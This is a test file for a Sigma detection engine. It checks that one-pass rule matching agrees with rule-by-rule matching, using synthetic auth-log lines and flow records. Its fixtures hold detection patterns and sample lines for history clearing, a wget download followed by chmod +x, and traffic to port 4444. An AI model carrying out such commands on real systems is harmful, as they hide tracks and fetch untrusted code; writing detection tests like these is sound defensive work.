/**
 * The one-pass match (one scan per source, a candidate mask, keyword prefilters shared by the
 * source's rules: src/sigma/match.ts) gives the same hits as running each rule as its own query
 * over all events — on hand-written events that aim at the prefilter's edges (NOT, OR with a
 * branch on another field, |all, |re with its own flags and anchors, case-sensitive beside
 * case-insensitive, more rules than one alternation holds, a rule over two sources). The SigmaHQ
 * rules' own positives and near misses are compared the same way in conformance.test.ts.
 */
import { describe, expect, it } from 'vitest';
import { requiredRegexes } from '../../src/sigma/match.js';
import type { Node } from '../../src/sigma/compile.js';
import { miniHunt, rule, uid, type Ev } from './helpers/mini.js';

const LINUX = 'product: linux';

/** rule id → hits, for the one-pass run and the rule-by-rule reference. */
async function both(rules: Record<string, string>, events: Ev[]): Promise<{ onePass: Record<string, number[]>; byRule: Record<string, number[]> }> {
  const a = await miniHunt(rules, events);
  a.close();
  const b = await miniHunt(rules, events, { ruleByRule: true });
  b.close();
  expect(a.problems).toEqual([]);
  return { onePass: Object.fromEntries([...a.hits].sort()), byRule: Object.fromEntries([...b.hits].sort()) };
}

const line = (id: number, raw: string, extra: Partial<Ev> = {}): Ev => ({ id, source: 'auth_log', class: 'other', action: 'other', raw, attrs: { program: 'bash' }, ...extra });

describe('one pass per source = rule by rule', () => {
  it('keyword prefilters: NOT, OR with another field, |all, |re flags and anchors, cased beside uncased', async () => {
    const events: Ev[] = [
      line(1, 'Jan 1 00:00:00 h bash[1]: history -c'),
      line(2, 'Jan 1 00:00:00 h bash[1]: HISTORY -C; wget http://x/a.sh'),
      line(3, 'Jan 1 00:00:00 h bash[1]: ls /tmp'),
      line(4, 'Secret token in line'),
      line(5, 'SECRET token in line'),
      line(6, 'Jan 1 00:00:00 h sudo: alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/id', { class: 'process_activity', action: 'sudo', actor: 'alice', target: 'root', command: '/bin/id', attrs: { program: 'sudo' } }),
      line(7, 'multi\nline wget\nwith chmod +x'),
      line(8, 'Jan 1 00:00:00 h bash[1]: chmod +x only'),
    ];
    const rules = {
      // Keywords (OR): required alternatives.
      'a.yml': rule(uid(1), LINUX, "keywords:\n    - 'history -c'\n    - 'unset HISTFILE'\ncondition: keywords"),
      // A keyword and NOT another keyword: the NOT branch is no requirement.
      'b.yml': rule(uid(2), LINUX, "keywords:\n    - 'history'\nfilter:\n    - 'wget'\ncondition: keywords and not filter"),
      // NOT alone: no requirement at all (hits what lacks the word).
      'c.yml': rule(uid(3), LINUX, "keywords:\n    - 'history'\ncondition: not keywords"),
      // OR of a keyword and a field: no requirement either (the sudo line has no keyword).
      'd.yml': rule(uid(4), LINUX, "kw:\n    - 'chmod +x'\nsel:\n    USER: root\ncondition: 1 of kw or sel"),
      // |all over keywords across line breaks.
      'e.yml': rule(uid(5), LINUX, "keywords:\n    '|all':\n        - 'wget'\n        - 'chmod +x'\ncondition: keywords"),
      // |re on the raw line: case-sensitive, anchored, and with its own inline flag.
      'f.yml': rule(uid(6), LINUX, "sel:\n    dwell.raw|re: '^Secret'\ncondition: sel"),
      'g.yml': rule(uid(7), LINUX, "sel:\n    dwell.raw|re: '(?i)^secret token'\ncondition: sel"),
      // |cased keyword beside an uncased one on the same words.
      'h.yml': rule(uid(8), LINUX, "sel:\n    dwell.raw|cased|contains: 'SECRET'\ncondition: sel"),
      'i.yml': rule(uid(9), LINUX, "keywords:\n    - 'secret'\ncondition: keywords"),
    };
    const { onePass, byRule } = await both(rules, events);
    expect(onePass).toEqual(byRule);
    expect(onePass).toEqual({
      [uid(1)]: [1, 2],
      [uid(2)]: [1],
      [uid(3)]: [3, 4, 5, 6, 7, 8],
      [uid(4)]: [6, 7, 8],
      [uid(5)]: [7],
      [uid(6)]: [4],
      [uid(7)]: [4, 5],
      [uid(8)]: [5],
      [uid(9)]: [4, 5],
    });
  });

  it('more keyword rules than one alternation holds, and a rule over two sources', async () => {
    const rules: Record<string, string> = {};
    const events: Ev[] = [];
    for (let n = 0; n < 60; n++) {
      rules[`k${n}.yml`] = rule(uid(100 + n), LINUX, `keywords:\n    - 'marker-${n}-x'\ncondition: keywords`);
      events.push(line(n + 1, `Jan 1 00:00:00 h bash[1]: echo marker-${n}-x`));
    }
    events.push(line(61, 'Jan 1 00:00:00 h bash[1]: echo marker-3-x marker-59-x'));
    // Firewall rule: VPC flow records and Zeek conn.log flows alike.
    rules['fw.yml'] = rule(uid(200), 'category: firewall', 'sel:\n    dst_port: 4444\ncondition: sel');
    events.push({ id: 70, source: 'vpc_flow', class: 'network_activity', action: 'flow', dst_port: 4444, raw: 'v' });
    events.push({ id: 71, source: 'zeek', class: 'network_activity', action: 'flow', dst_port: 4444, raw: '{}' });
    events.push({ id: 72, source: 'zeek', class: 'network_activity', action: 'flow', dst_port: 443, raw: '{}' });
    // A flow without a source: the firewall category does not name one, so it is matched too.
    events.push({ id: 73, source: null, class: 'network_activity', action: 'flow', dst_port: 4444, raw: '' });
    const { onePass, byRule } = await both(rules, events);
    expect(onePass).toEqual(byRule);
    for (let n = 0; n < 60; n++) expect(onePass[uid(100 + n)]).toEqual(n === 3 || n === 59 ? [n + 1, 61] : [n + 1]);
    expect(onePass[uid(200)]).toEqual([70, 71, 73]);
  });
});

describe('required regexes', () => {
  const leaf = (param: string, text = 'raw'): Node => ({ t: 'leaf', sql: `coalesce(regexp_matches(${text}, ${param}), false)`, dict: false, re: { text, param } });
  const other: Node = { t: 'leaf', sql: 'coalesce(actor = $s9, false)', dict: false };

  it('an AND takes a child’s requirement, an OR needs one in every branch, a NOT gives none', () => {
    expect(requiredRegexes({ t: 'and', args: [other, leaf('$s1')] }, 'raw')).toEqual(['$s1']);
    expect(requiredRegexes({ t: 'or', args: [leaf('$s1'), leaf('$s2')] }, 'raw')).toEqual(['$s1', '$s2']);
    expect(requiredRegexes({ t: 'or', args: [leaf('$s1'), other] }, 'raw')).toBeNull();
    expect(requiredRegexes({ t: 'not', arg: leaf('$s1') }, 'raw')).toBeNull();
    expect(requiredRegexes(leaf('$s1', 'command'), 'raw')).toBeNull();
    // The child with fewer alternatives filters best.
    expect(requiredRegexes({ t: 'and', args: [{ t: 'or', args: [leaf('$s1'), leaf('$s2')] }, leaf('$s3')] }, 'raw')).toEqual(['$s3']);
  });
});
